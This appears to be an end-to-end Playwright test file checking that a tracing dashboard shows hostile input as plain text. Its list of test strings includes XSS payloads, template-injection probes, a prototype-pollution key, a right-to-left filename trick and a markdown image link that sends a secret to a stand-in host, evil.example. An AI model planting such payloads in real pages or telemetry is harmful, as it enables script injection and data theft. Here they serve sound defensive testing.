"""What services send is text on every page of lists: no dialog, no request, no CSP report (the watch sees to that)."""

import time
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Page, expect

from aiops.core.models import Project
from tests.e2e.conftest import follow
from tests.e2e.recent import LIST, names
from tests.e2e.test_health import HEALTH, refuse
from tests.factories import batch, llm, span
from traces.ingest.write import write
from traces.types import Resource

pytestmark = pytest.mark.e2e
EVIL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "' onmouseover='alert(4)",
    "</script><script>alert(5)</script>",
    "javascript:alert(6)",
    "{{7*7}} ${7*7} %(x)s {% debug %}",
    "![x](http://evil.example/?q=secret) [a](javascript:alert(7))",
    "__proto__",
    "\u202egnp.exe \u200b zero",
]


@pytest.fixture
def hostile(project: Project) -> Project:
    """Every carrier of the list: name, workflow, service, model, provider, user, session, release, error type."""
    Project.objects.filter(pk=project.pk).update(name=EVIL[0])
    now_ns, spans = time.time_ns(), []
    for n, text in enumerate(EVIL):
        start_ns = now_ns - (n + 1) * 10**10
        fields = {
            "workflow": text, "user": text, "session": text, "release": text, "error_type": text, "status": "error",
            "start_ns": start_ns, "end_ns": start_ns + 10**9, "resource": Resource({"service.name": text}),
        }  # fmt: skip
        root = span(name=text, **fields)
        spans += [root, llm(**fields, trace_id=root.trace_id, parent_span_id=root.span_id, model=text, provider=text)]
    write(batch(spans, project_id=project.pk, received_ns=now_ns, client=EVIL[1]))
    return project


def test_names_are_shown_as_they_were_sent(signed_in_page: Page, hostile: Project) -> None:
    signed_in_page.goto(LIST)
    signed_in_page.wait_for_selector("#summary .bars")
    assert names(signed_in_page) == EVIL
    expect(signed_in_page.locator(".project summary")).to_contain_text(EVIL[0])
    assert signed_in_page.evaluate("({}).polluted") is None


def test_values_are_suggested_filtered_by_and_removed_as_text(signed_in_page: Page, hostile: Project) -> None:
    page = signed_in_page
    page.goto(LIST)
    for facet in ("Workflow", "Model", "Provider", "User", "Session"):
        page.locator(".add > summary").click()
        page.locator(".facet summary", has_text=facet).click()
        follow(page.locator(".facet[open] .values a").filter(has_text="alert(3)"))
        expect(page.locator(".chip .v")).to_have_text(EVIL[2])
        assert names(page) == [EVIL[2]]
        follow(page.locator(".chip a"))
        expect(page.locator(".chip")).to_have_count(0)
        assert len(names(page)) == len(EVIL)


def test_a_search_and_a_filter_in_the_url_come_back_as_text(signed_in_page: Page, hostile: Project) -> None:
    page = signed_in_page
    for text in EVIL:
        page.goto(f"{LIST}?{urlencode({'q': text, 'user': text, 'tag.' + text: text})}")
        expect(page.locator("#q")).to_have_value(text)
        assert page.locator(".chip .v").all_inner_texts() == [text, text]
        assert page.locator(".chip .k").all_inner_texts() == ["User", text]


def test_ingest_health_shows_names_of_spans_and_clients_as_text(signed_in_page: Page, hostile: Project) -> None:
    for text in EVIL:
        refuse(hostile, 1, name=text)
    signed_in_page.goto(HEALTH)
    shown = signed_in_page.get_by_role("region", name="Quarantine, table").locator("tbody th").all_inner_texts()
    assert sorted(shown) == sorted(EVIL)
    expect(signed_in_page.get_by_role("region", name="Clients, table")).to_contain_text(EVIL[1])
